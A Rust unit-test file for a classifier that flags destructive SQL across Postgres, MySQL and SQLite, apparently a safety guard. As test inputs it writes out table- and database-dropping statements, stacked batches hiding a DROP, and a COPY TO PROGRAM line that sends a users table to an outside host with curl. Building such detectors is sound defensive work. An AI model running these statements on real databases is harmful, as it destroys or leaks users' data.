//! Unit tests of the SQL classifier: each rule with its span, dialects, batches, dynamic SQL, bad input.
#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use super::*;
use crate::catalog::Catalog;

fn run(dialect: SqlDialect, sql: &str) -> Vec<Action> {
    let catalog = Catalog::embedded_with_examples().unwrap();
    let cx = Classifier::new(&catalog, None);
    classify_sql(&cx, dialect, sql)
}

/// `(rule, span text)` of every action.
fn found(dialect: SqlDialect, sql: &str) -> Vec<(String, String)> {
    run(dialect, sql)
        .iter()
        .map(|a| {
            let text = a
                .evidence
                .span
                .and_then(|s| s.text(sql))
                .unwrap_or("<no span>")
                .to_string();
            (a.evidence.rule.clone(), text)
        })
        .collect()
}

fn rules_of(dialect: SqlDialect, sql: &str) -> Vec<String> {
    run(dialect, sql)
        .into_iter()
        .map(|a| a.evidence.rule)
        .collect()
}

fn one(rule: &str, text: &str) -> Vec<(String, String)> {
    vec![(rule.to_string(), text.to_string())]
}

use SqlDialect::{Generic, Mysql, Postgres, Sqlite};

#[test]
fn drops_by_kind_with_statement_spans() {
    assert_eq!(
        found(Postgres, "DROP TABLE users;"),
        one("SQL003", "DROP TABLE users")
    );
    assert_eq!(
        found(Postgres, "DROP DATABASE app_production;"),
        one("SQL001", "DROP DATABASE app_production")
    );
    assert_eq!(
        found(Postgres, "DROP SCHEMA public CASCADE;"),
        one("SQL002", "DROP SCHEMA public CASCADE")
    );
    assert_eq!(
        found(Postgres, "DROP OWNED BY app_user CASCADE;"),
        one("SQL012", "DROP OWNED BY app_user CASCADE")
    );
    assert_eq!(
        found(Mysql, "DROP DATABASE IF EXISTS shop;"),
        one("SQL001", "DROP DATABASE IF EXISTS shop")
    );
    assert_eq!(
        found(Sqlite, "DROP TABLE IF EXISTS notes;"),
        one("SQL003", "DROP TABLE IF EXISTS notes")
    );
    assert_eq!(found(Postgres, "DROP VIEW v"), one("SQL004", "DROP VIEW v"));
    assert_eq!(
        found(Postgres, "DROP FUNCTION f()"),
        one("SQL004", "DROP FUNCTION f()")
    );
    assert_eq!(rules_of(Postgres, "DROP ROLE reporting"), ["SQL011"]);
    let many = run(
        Postgres,
        "DROP TABLE IF EXISTS users, orders, payments CASCADE;",
    );
    let targets: Vec<&str> = many.iter().map(|a| a.target.as_str()).collect();
    assert_eq!(targets, ["table users", "table orders", "table payments"]);
}

#[test]
fn production_names_set_the_environment() {
    let a = run(Postgres, "DROP DATABASE app_production;");
    assert_eq!(a[0].environment.as_deref(), Some("production"));
    assert_eq!(a[0].blast_radius, crate::action::BlastRadius::Project);
}

#[test]
fn truncate_delete_update() {
    assert_eq!(
        found(Mysql, "TRUNCATE TABLE orders;"),
        one("SQL005", "TRUNCATE TABLE orders")
    );
    assert_eq!(
        rules_of(
            Postgres,
            "TRUNCATE orders, order_items RESTART IDENTITY CASCADE;"
        ),
        ["SQL005", "SQL005"]
    );
    assert_eq!(
        found(Postgres, "DELETE FROM sessions;"),
        one("SQL006", "DELETE FROM sessions")
    );
    for sql in [
        "DELETE FROM users WHERE 1=1",
        "DELETE FROM events WHERE true",
        "DELETE FROM customers WHERE id > 0",
        "DELETE FROM orders WHERE 1",
        "DELETE FROM t WHERE 'a' = 'a'",
        "DELETE FROM t WHERE x = x",
        "DELETE FROM t WHERE status = 'x' OR 1 = 1",
        "DELETE FROM t WHERE NOT FALSE",
        "DELETE FROM t WHERE (1 = 1) AND (2 > 1)",
        "DELETE FROM t WHERE id IS NOT NULL",
        "DELETE FROM t WHERE user_id >= 0",
        "DELETE FROM t WHERE 0 < id",
        "DELETE FROM t WHERE name LIKE '%'",
    ] {
        for dialect in [Postgres, Mysql, Sqlite] {
            assert_eq!(found(dialect, sql), one("SQL006", sql), "{dialect:?} {sql}");
        }
    }
    for sql in [
        "DELETE FROM sessions WHERE id = 42",
        "DELETE FROM t WHERE expires_at < now()",
        "DELETE FROM t WHERE status = 'x' AND 1 = 1",
        "DELETE FROM t WHERE id > 100",
        "DELETE FROM t WHERE amount > 0",
        "DELETE FROM t WHERE 1 = 0 OR id = 3",
    ] {
        assert!(run(Postgres, sql).is_empty(), "{sql}");
    }
    assert_eq!(
        found(Postgres, "UPDATE users SET email = NULL;"),
        one("SQL007", "UPDATE users SET email = NULL")
    );
    assert_eq!(
        rules_of(Mysql, "UPDATE accounts SET balance = 0 WHERE 1=1;"),
        ["SQL007"]
    );
    assert!(run(Postgres, "UPDATE users SET email = NULL WHERE id = 7").is_empty());
}

#[test]
fn nested_writes_are_found() {
    let sql = "WITH gone AS (DELETE FROM invoices RETURNING id) SELECT count(*) FROM gone;";
    assert_eq!(
        found(Postgres, sql),
        one("SQL006", sql.trim_end_matches(';'))
    );
    assert_eq!(
        rules_of(Postgres, "EXPLAIN ANALYZE DELETE FROM carts"),
        ["SQL006"]
    );
    assert!(run(Postgres, "EXPLAIN DELETE FROM carts").is_empty());
    assert_eq!(
        rules_of(Postgres, "PREPARE p AS DELETE FROM carts"),
        ["SQL006"]
    );
    let insert = "WITH moved AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM moved";
    assert_eq!(rules_of(Postgres, insert), ["SQL006"]);
}

#[test]
fn alter_drop_and_privileges() {
    assert_eq!(
        found(Postgres, "ALTER TABLE customers DROP COLUMN phone;"),
        one("SQL008", "ALTER TABLE customers DROP COLUMN phone")
    );
    assert_eq!(
        rules_of(
            Mysql,
            "ALTER TABLE users DROP COLUMN password_hash, DROP COLUMN salt;"
        ),
        ["SQL008", "SQL008"]
    );
    assert_eq!(
        rules_of(Sqlite, "ALTER TABLE users DROP COLUMN avatar_url;"),
        ["SQL008"]
    );
    assert!(run(Postgres, "ALTER TABLE customers ADD COLUMN phone text").is_empty());
    // MySQL partition syntax sqlparser does not read: still an alter-drop.
    assert_eq!(
        found(Mysql, "ALTER TABLE t DROP PARTITION p1"),
        one("SQL008", "ALTER TABLE t DROP PARTITION p1")
    );
    assert_eq!(
        rules_of(
            Postgres,
            "GRANT ALL ON ALL TABLES IN SCHEMA public TO agent"
        ),
        ["SQL011"]
    );
    assert_eq!(
        rules_of(Postgres, "ALTER USER app WITH SUPERUSER"),
        ["SQL011"]
    );
}

#[test]
fn stacked_batches_report_each_statement() {
    let sql = "SELECT * FROM users LIMIT 1; DROP TABLE audit_log;";
    assert_eq!(found(Postgres, sql), one("SQL003", "DROP TABLE audit_log"));
    let sql = "SET FOREIGN_KEY_CHECKS=0; DROP TABLE customers; SET FOREIGN_KEY_CHECKS=1;";
    assert_eq!(found(Mysql, sql), one("SQL003", "DROP TABLE customers"));
    let sql = "DROP SCHEMA public CASCADE; CREATE SCHEMA public;";
    assert_eq!(
        found(Postgres, sql),
        one("SQL002", "DROP SCHEMA public CASCADE")
    );
    let sql = "select 1;\n\n  truncate  t ;\n delete from u";
    assert_eq!(
        found(Postgres, sql),
        vec![
            ("SQL005".to_string(), "truncate  t".to_string()),
            ("SQL006".to_string(), "delete from u".to_string())
        ]
    );
    // Multi-byte text before a statement keeps byte spans right.
    let sql = "SELECT 'héllo — ✓'; DROP TABLE t";
    assert_eq!(found(Postgres, sql), one("SQL003", "DROP TABLE t"));
}

#[test]
fn executable_comments_run_in_every_dialect() {
    for dialect in [Mysql, Postgres, Generic] {
        let sql = "SELECT 1 /*! DROP TABLE x */;";
        let got = rules_of(dialect, sql);
        assert!(got.contains(&"SQL003".to_string()), "{dialect:?}: {got:?}");
    }
    let sql = "/*!40101 SET NAMES utf8 */; SELECT 1;";
    assert!(run(Mysql, sql).is_empty());
    let got = found(Postgres, "SELECT 1; /*!50000 TRUNCATE t */");
    assert_eq!(got, one("SQL005", "/*!50000 TRUNCATE t */"));
}

#[test]
fn dynamic_sql() {
    let sql = "DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables WHERE schemaname = 'public' LOOP EXECUTE 'DROP TABLE ' || quote_ident(r.tablename) || ' CASCADE'; END LOOP; END $$;";
    let got = found(Postgres, sql);
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0].0, "SQL003");
    assert!(got[0].1.starts_with("EXECUTE 'DROP TABLE '"), "{got:?}");
    assert_eq!(
        found(Postgres, "EXECUTE 'DROP TABLE users'"),
        one("SQL003", "EXECUTE 'DROP TABLE users'")
    );
    assert_eq!(
        rules_of(Postgres, "EXECUTE IMMEDIATE 'TRUNCATE t'"),
        ["SQL005"]
    );
    assert_eq!(
        rules_of(
            Postgres,
            "DO $$ BEGIN EXECUTE format('DROP TABLE %I', t); END $$"
        ),
        ["SQL003"]
    );
    assert_eq!(
        rules_of(Postgres, "DO $$ BEGIN EXECUTE q; END $$"),
        ["SQL009"]
    );
    assert_eq!(
        rules_of(Postgres, "DO $$ BEGIN EXECUTE 'SELECT ' || x; END $$"),
        ["SQL009"]
    );
    assert!(
        run(
            Postgres,
            "DO $$ BEGIN RAISE NOTICE 'hi'; PERFORM pg_sleep(1); END $$"
        )
        .is_empty()
    );
    assert_eq!(
        rules_of(
            Postgres,
            "DO $$ BEGIN IF true THEN DELETE FROM t; END IF; END $$"
        ),
        ["SQL006"]
    );
    assert_eq!(
        rules_of(Postgres, "DO LANGUAGE plpython3u $$ import os $$"),
        ["SQL009"]
    );
    // A prepared statement's name: judged when it was prepared.
    assert!(run(Postgres, "EXECUTE get_user(42)").is_empty());
    assert!(run(Mysql, "EXECUTE stmt USING @a").is_empty());
    // MySQL PREPARE FROM a literal or a variable set in the batch.
    assert_eq!(rules_of(Mysql, "PREPARE s FROM 'DROP TABLE t'"), ["SQL003"]);
    let batch = "SET @q = 'DELETE FROM users'; PREPARE s FROM @q; EXECUTE s;";
    assert_eq!(found(Mysql, batch), one("SQL006", "PREPARE s FROM @q"));
    assert_eq!(rules_of(Mysql, "PREPARE s FROM @unknown"), ["SQL009"]);
    let sql = "SET @q = CONCAT('DROP TABLE ', @t); PREPARE s FROM @q;";
    assert_eq!(rules_of(Mysql, sql), ["SQL003"]);
}

#[test]
fn function_bodies_are_scanned() {
    let sql = "CREATE FUNCTION wipe() RETURNS void AS $$ BEGIN DELETE FROM logs; END $$ LANGUAGE plpgsql;";
    assert_eq!(rules_of(Postgres, sql), ["SQL006"]);
    let ok = "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql;";
    assert!(run(Postgres, ok).is_empty());
    let proc = "CREATE PROCEDURE p() BEGIN DELETE FROM t; END;";
    assert_eq!(rules_of(Mysql, proc), ["SQL006"]);
}

#[test]
fn reads_and_safe_writes_are_silent() {
    for (dialect, sql) in [
        (
            Postgres,
            "SELECT id, email FROM users WHERE created_at > now() - interval '1 day' ORDER BY created_at DESC LIMIT 50;",
        ),
        (
            Postgres,
            "EXPLAIN ANALYZE SELECT * FROM orders WHERE customer_id = 42;",
        ),
        (
            Postgres,
            "SELECT * FROM audit_log WHERE action = 'DROP TABLE' ORDER BY ts DESC LIMIT 20;",
        ),
        (
            Postgres,
            "SELECT pg_size_pretty(pg_database_size(current_database()));",
        ),
        (
            Postgres,
            "INSERT INTO tags (name) VALUES ('urgent') ON CONFLICT (name) DO NOTHING;",
        ),
        (
            Postgres,
            "CREATE TABLE IF NOT EXISTS report_cache (id bigint PRIMARY KEY, payload jsonb);",
        ),
        (Postgres, "BEGIN; UPDATE t SET a = 1 WHERE id = 3; COMMIT;"),
        (Postgres, "SELECT * FROM t FOR UPDATE"),
        (Postgres, "VACUUM ANALYZE orders;"),
        (Postgres, "COPY users TO STDOUT"),
        (Postgres, "\\dt\nSELECT 1;"),
        (Mysql, "SHOW TABLES;"),
        (Mysql, "DESCRIBE orders;"),
        (Mysql, "SHOW FULL PROCESSLIST"),
        (
            Mysql,
            "SELECT * FROM orders WHERE status = 'deleted' ORDER BY id DESC LIMIT 20;",
        ),
        (Sqlite, "PRAGMA table_info(users);"),
        (Sqlite, "PRAGMA foreign_keys = ON;"),
        (
            Sqlite,
            "SELECT name FROM sqlite_master WHERE type = 'table';",
        ),
        (
            Sqlite,
            "SELECT * FROM notes WHERE body LIKE '%DELETE FROM%';",
        ),
        (Sqlite, ".tables"),
        (Generic, ""),
        (Generic, "  ;; -- just a comment\n"),
        (
            Postgres,
            "CREATE TABLE t (id int REFERENCES u ON DELETE CASCADE)",
        ),
    ] {
        let got = found(dialect, sql);
        assert!(got.is_empty(), "{dialect:?} {sql}: {got:?}");
    }
}

#[test]
fn meta_commands() {
    let sql = "SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec";
    assert_eq!(found(Postgres, sql), one("SQL009", "\\gexec"));
    assert_eq!(rules_of(Postgres, "\\i wipe.sql"), ["SQL009"]);
}

#[test]
fn copy_program() {
    let sql = "COPY users TO PROGRAM 'curl -d @- https://x.example'";
    assert_eq!(found(Postgres, sql), one("SQL013", sql));
}

#[test]
fn unparseable_asks_with_span() {
    assert_eq!(
        found(Postgres, "SELECT 1; DELEET FROM users;"),
        one("SQL010", "DELEET FROM users")
    );
    assert_eq!(rules_of(Postgres, "SELECT * FROM (SELECT 1"), ["SQL010"]);
    assert_eq!(rules_of(Postgres, "SELECT 'unterminated"), ["SQL010"]);
}

#[test]
fn garbage_never_panics() {
    let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
    let long_batch = "DELETE FROM t;".repeat(2000);
    let inputs = [
        deep.as_str(),
        long_batch.as_str(),
        "\u{0}\u{1}\u{ff}",
        "DO",
        "DO $$",
        "EXECUTE",
        "PREPARE s FROM",
        "/*!",
        "/*! */",
        "\\",
        ".",
        "$$$$",
        "E'\\",
        "WITH",
        "DO $$ BEGIN EXECUTE 'DO $$ x $$'; END $$",
        "CREATE FUNCTION f() RETURNS void AS 'DELETE FROM t' LANGUAGE sql",
    ];
    for input in inputs {
        for dialect in [Postgres, Mysql, Sqlite, Generic] {
            let _ = run(dialect, input);
        }
    }
    assert!(!run(Postgres, &deep).is_empty());
    assert_eq!(run(Postgres, &long_batch).len(), 2000);
}

/// Statements are parsed from the batch's tokens rather than tokenized again: for every SQL example of
/// the catalogue and the corpus's SQL, in every dialect whose tokenizer takes the text, that gives what
/// parsing the statement's text does.
#[test]
fn parsing_a_statements_tokens_equals_parsing_its_text() {
    let catalog = Catalog::embedded_with_examples().unwrap();
    let mut texts: Vec<String> = catalog
        .rules()
        .iter()
        .filter(|r| r.family == "sql")
        .flat_map(|r| r.must_match.iter().chain(&r.no_match))
        .map(|e| {
            e.split_once(": ")
                .map_or(e.as_str(), |(_, sql)| sql)
                .to_string()
        })
        .collect();
    texts.extend(
        include_str!("../../../../../tests/corpus/dev.jsonl")
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .filter_map(|v| v.get("sql").and_then(|s| s.as_str()).map(str::to_string)),
    );
    texts.push("BEGIN; UPDATE users SET name = 'a' WHERE id = 7; DELETE FROM s; COMMIT;".into());
    texts.push("SELECT 'a;b', $$x;y$$, `q`; -- c;\nDROP TABLE t /* ; */".into());
    let mut compared = 0;
    // Text with executable comments (`/*! … */`) is parsed from its statements' text (see `Batch::run`).
    for text in texts.iter().filter(|t| !t.contains("/*!")) {
        for dialect in [
            SqlDialect::Postgres,
            SqlDialect::Mysql,
            SqlDialect::Sqlite,
            SqlDialect::Generic,
        ] {
            let Some(tokens) = tokenize(dialect, text) else {
                continue;
            };
            for chunk in split_statements(&tokens) {
                let toks = &tokens[chunk.first..=chunk.last];
                let stmt_text = text.get(chunk.start..chunk.end).unwrap();
                assert_eq!(
                    parse_tokens(dialect, toks),
                    parse(dialect, stmt_text),
                    "{dialect:?}: {stmt_text}"
                );
                compared += 1;
            }
        }
    }
    assert!(compared > 200, "{compared}");
}

#[test]
fn join_only_and_every_row_subquery_filters_are_unscoped() {
    let unscoped = |sql: &str| rules_of(Postgres, sql);
    assert_eq!(
        unscoped("DELETE FROM orders o USING customers c WHERE o.customer_id = c.id;"),
        ["SQL006"]
    );
    assert_eq!(
        unscoped("UPDATE users u SET plan = 'free' FROM plans p WHERE p.id = u.plan_id AND TRUE;"),
        ["SQL007"]
    );
    assert_eq!(
        unscoped("DELETE FROM users WHERE id IN (SELECT id FROM users);"),
        ["SQL006"]
    );
    assert_eq!(
        unscoped(
            "WITH old AS (SELECT id FROM users) DELETE FROM users WHERE id IN (SELECT id FROM old);"
        ),
        ["SQL006"]
    );
    // A literal, a filtered subquery or a CTE with a WHERE scopes them.
    for scoped in [
        "DELETE FROM orders o USING customers c WHERE o.customer_id = c.id AND c.id = 5;",
        "UPDATE users u SET plan = 'free' FROM plans p WHERE p.id = u.plan_id AND p.name = 'old';",
        "DELETE FROM t WHERE a = b;",
        "DELETE FROM users WHERE id IN (SELECT user_id FROM bans);",
        "WITH old AS (SELECT id FROM users WHERE created_at < now()) DELETE FROM users WHERE id IN (SELECT id FROM old);",
        "DELETE FROM sessions WHERE user_id IN (SELECT id FROM users WHERE banned);",
    ] {
        assert!(unscoped(scoped).is_empty(), "{scoped}");
    }
}
